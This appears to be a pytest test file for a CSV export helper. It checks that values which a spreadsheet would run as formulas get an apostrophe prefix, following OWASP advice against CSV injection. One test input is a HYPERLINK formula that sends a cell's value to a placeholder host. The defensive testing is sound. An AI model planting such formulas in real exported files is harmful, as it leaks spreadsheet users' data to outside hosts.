"""CSV fields that a spreadsheet program would run as a formula are written as text (OWASP)."""

from __future__ import annotations

import pytest

from govscore.sheets import csv_field


@pytest.mark.parametrize(
    ("value", "field"),
    [
        ("=1+1", "'=1+1"),
        ("+A1", "'+A1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ('=HYPERLINK("http://x.example/?"&B5,"x")', '\'=HYPERLINK("http://x.example/?"&B5,"x")'),
        # Numbers are no formulas: a negative total stays a number for the spreadsheet.
        (-2.5, "-2.5"),
        ("-2.5", "-2.5"),
        ("+3", "+3"),
        (12, "12"),
        ("Sở Y tế", "Sở Y tế"),
        ("a=1", "a=1"),
        (None, ""),
    ],
)
def test_a_field_starting_like_a_formula_gets_an_apostrophe(value: object, field: str) -> None:
    assert csv_field(value) == field
